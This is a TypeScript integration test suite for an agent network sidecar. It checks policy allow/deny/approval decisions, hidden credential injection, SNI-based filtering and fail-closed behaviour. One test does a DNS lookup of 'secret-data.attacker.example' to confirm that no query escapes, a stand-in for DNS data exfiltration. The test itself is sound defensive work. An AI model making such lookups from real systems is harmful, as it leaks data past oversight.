import fs from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AgentClient, prepareClients } from '../../support/pod/agent-clients.ts';
import { greeting, mailPort } from '../../support/pod/outside-options.ts';
import { hosts, type Pod, startPod } from '../../support/pod/pod.ts';
import { until } from '../../support/programs/processes.ts';

const secret = 'the-secret-of-api-example';
const clientNames = ['curl', 'Python', 'Node 18', 'Go', 'Java'] as const;
let pod: Pod;
let clients: readonly AgentClient[];
beforeAll(async () => {
  pod = await startPod();
  const folder = join(pod.folder, 'clients');
  fs.mkdirSync(folder);
  const certificate = (await curl('http://sallyport.internal/ca.crt')).output;
  clients = await prepareClients(folder, { caPath: pod.sidecar.caPath, certificate });
  await configure();
  const isAllowed = async () =>
    (await curl('https://api.example/items/1')).output.includes('answered');
  await until('the policy is in force', isAllowed);
}, 300_000);
afterAll(() => pod?.close());

async function configure(): Promise<void> {
  const items = { host: 'api.example', method: 'GET', path: '/items/{id}', body: 'none' };
  const binding = { protocol: 'http', ...items, tool: 'items.read', resource: 'item:{id}' };
  await stored('PUT', '/v1/runtime/bindings/items', binding);
  const mail = { protocol: 'passthrough', host: `mail.example:${mailPort}` };
  await stored('PUT', '/v1/runtime/bindings/mail', mail);
  const on = (id: string) => ({ all: [{ path: 'resource.id', operator: '==', value: id }] });
  const rules = [
    { name: 'one', decision: 'allow', reason: 'test.allowed', when: on('1') },
    { name: 'three', decision: 'require_approval', reason: 'test.held', when: on('3') },
  ];
  const rules_json = { id: 'pod', version: 1, rules };
  await stored('POST', '/v1/policies', { name: 'pod', publish: true, rules_json });
  const inject = { in: 'bearer' };
  const bound = { tools: ['items.read'], hosts: ['api.example'] };
  await stored('POST', '/v1/credentials', { name: 'items', secret, inject, bind: bound });
}

async function stored(method: string, path: string, body: unknown): Promise<void> {
  const { status, body: answer } = await pod.controlPlane.api(method, path, body);
  if (status >= 300) throw new Error(`${path}: ${JSON.stringify(answer)}`);
}

const curl = (...args: readonly string[]) =>
  pod.agent(['curl', '-sS', '--max-time', '60', '--cacert', pod.sidecar.caPath, ...args]);

describe.each(clientNames)('an agent that uses %s and has no setting for the sidecar', (name) => {
  const request = async (url: string) => {
    const client = clients.find((one) => one.name === name);
    if (client === undefined) throw new Error(`${name} was not prepared`);
    return (await pod.agent(client.command(url), client.env)).output;
  };

  it('performs an allowed call over TLS, with the credential that it never sees', async () => {
    const output = await request('https://api.example/items/1');
    expect(output).toContain('https://api.example/items/1 answered');
    expect(output).toContain('200');
    expect(pod.arrived.at(-1)).toMatchObject({
      authorization: `Bearer ${secret}`,
      to: `::ffff:${hosts['api.example']}`,
    });
  });

  it('receives the reason why a call is denied', async () => {
    const before = pod.arrived.length;
    const output = await request('https://api.example/items/2');
    expect(output).toContain('403');
    expect(output).toContain('"decision":"deny"');
    expect(pod.arrived.slice(before)).toEqual([]);
  });

  it('receives the reason why a host is denied, over TLS and in plain HTTP', async () => {
    for (const scheme of ['https', 'http']) {
      expect(await request(`${scheme}://unbound.example/`)).toContain('"decision":"deny"');
    }
  });

  it('waits for the approval of a held call, which is then performed once', async () => {
    const before = pod.arrived.length;
    const answer = request('https://api.example/items/3');
    const pending = async () => {
      const { body } = await pod.controlPlane.api('GET', '/v1/approvals?status=pending');
      return (body.approvals as { readonly id: number }[])[0];
    };
    await until('the call is held', async () => (await pending()) !== undefined);
    const id = (await pending())?.id;
    await stored('POST', `/v1/approvals/${id}/decide`, { action: 'approve' });
    expect(await answer).toContain('https://api.example/items/3 answered');
    expect(pod.arrived.slice(before)).toHaveLength(1);
  });
});

describe('a pod with redirect rules', () => {
  it('passes `sallyport network validate` when the agent runs it', async () => {
    const { code, output } = await pod.validate();
    expect({ code, output }).toMatchObject({
      code: 0,
      output: expect.stringContaining('reach the sidecar'),
    });
  });

  it('tunnels a protocol in which the server speaks first to a passthrough host', async () => {
    const script = `import socket; s=socket.create_connection(("mail.example",${mailPort}),30); print(s.recv(99)); s.send(b"HELO"); print(s.recv(99))`;
    const { output } = await pod.agent(['/usr/bin/python3', '-c', script]);
    expect(output).toBe(`${pythonBytes(greeting)}\n${pythonBytes('250 HELO')}\n`);
  });

  it('resolves every name to a synthetic address and sends no query outside', async () => {
    const script =
      'import socket,json; print(json.dumps(sorted({a[4][0] for a in socket.getaddrinfo("secret-data.attacker.example",80)})))';
    const { output } = await pod.agent(['/usr/bin/python3', '-c', script]);
    expect(JSON.parse(output)).toEqual([
      expect.stringMatching(/^198\.1[89]\./),
      expect.stringMatching(/^fd53:616c:6c79:706f:7274:/),
    ]);
  });

  it('refuses a connection to an address without a name', async () => {
    const before = pod.arrived.length;
    const address = hosts['api.example'];
    const plain = await curl(`http://${address}/items/1`);
    expect(plain.output).toContain('"decision":"deny"');
    const secure = await curl('-k', `https://${address}/items/1`);
    expect(secure.output).toContain('"decision":"deny"');
    expect(pod.arrived.slice(before)).toEqual([]);
  });

  it('decides by the SNI, whatever address the agent uses', async () => {
    const { output } = await curl(
      '--resolve',
      'api.example:443:203.0.113.9',
      'https://api.example/items/1',
    );
    expect(output).toContain('answered');
    expect(pod.arrived.at(-1)?.to).toBe(`::ffff:${hosts['api.example']}`);
  });

  it('cannot reach the network when the sidecar is dead', async () => {
    await pod.sidecar.kill();
    const before = pod.arrived.length;
    expect((await curl('https://api.example/items/1')).code).not.toBe(0);
    expect((await curl(`http://${hosts['api.example']}/items/1`)).code).not.toBe(0);
    expect(pod.arrived.slice(before)).toEqual([]);
  });
});

function pythonBytes(text: string): string {
  return `b'${text.replaceAll('\r', '\\r').replaceAll('\n', '\\n')}'`;
}
